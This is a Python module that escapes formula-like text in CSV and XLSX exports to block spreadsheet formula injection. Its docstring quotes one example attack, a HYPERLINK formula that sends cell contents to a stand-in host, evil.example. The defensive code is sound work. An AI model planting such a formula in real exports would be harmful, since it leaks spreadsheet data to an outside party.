"""Writing CSV and XLSX files that are safe to open in a spreadsheet program.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as
a formula by Excel and LibreOffice (OWASP "CSV injection"): a cohort named
``=HYPERLINK("https://evil.example/?"&A1,"Klik")`` would send the sheet's contents away. Every
CSV and XLSX writer in Droomplan goes through this module:

- CSV: such text gets a leading apostrophe (``'=HYPERLINK(...)``), as OWASP recommends;
- XLSX: such text is stored as a text cell with Excel's own "quote prefix" (what Excel does
  when you type an apostrophe first), so it is shown as typed and never becomes a formula.
  `append_row` does this for an ordinary openpyxl sheet and for a sheet of a write-only
  workbook (`Workbook(write_only=True)`, rows written to disk as they come, so a file of
  100,000 rows needs no more memory than one of ten; see docs/performance.md).

Only text is touched: numbers (also negative ones), dates and empty cells stay what they are,
so a spreadsheet can still calculate with them."""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def neutralise(value):
    """The value for a CSV cell: text that starts like a formula gets an apostrophe."""
    return "'" + value if is_formula_like(value) else value


class _SafeWriter:
    """`csv.writer` whose rows are neutralised first."""

    def __init__(self, out, **kwargs):
        kwargs.setdefault("lineterminator", "\n")
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([neutralise(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


class _SafeDictWriter(csv.DictWriter):
    def writerow(self, rowdict):
        return super().writerow({k: neutralise(v) for k, v in rowdict.items()})


def csv_writer(out, **kwargs) -> _SafeWriter:
    """Like `csv.writer(out)` (with "\\n" line ends), neutralising every text cell."""
    return _SafeWriter(out, **kwargs)


def csv_dict_writer(out, fieldnames, **kwargs) -> csv.DictWriter:
    """Like `csv.DictWriter(out, fieldnames)` (with "\\n" line ends), neutralising every value."""
    kwargs.setdefault("lineterminator", "\n")
    return _SafeDictWriter(out, fieldnames=fieldnames, **kwargs)


def is_write_only(sheet) -> bool:
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

    return isinstance(sheet, WriteOnlyWorksheet)


def _write_only_cell(sheet, value, font):
    if not is_formula_like(value) and font is None:
        return value
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    if is_formula_like(value):
        cell.data_type = "s"  # openpyxl made it a formula ("f")
        cell.quotePrefix = True
    if font is not None:
        cell.font = font
    return cell


def append_row(sheet, values, *, font=None) -> None:
    """`sheet.append(values)` for an openpyxl worksheet (also a write-only one), keeping
    formula-like text as text; `font` (e.g. bold for a header) for every cell of the row."""
    values = list(values)
    if is_write_only(sheet):
        sheet.append([_write_only_cell(sheet, value, font) for value in values])
        return
    sheet.append(values)
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if is_formula_like(value):
            cell = sheet.cell(row=row, column=column)
            cell.value = value
            cell.data_type = "s"  # openpyxl made it a formula ("f")
            cell.quotePrefix = True
    if font is not None:
        for cell in sheet[row]:
            cell.font = font
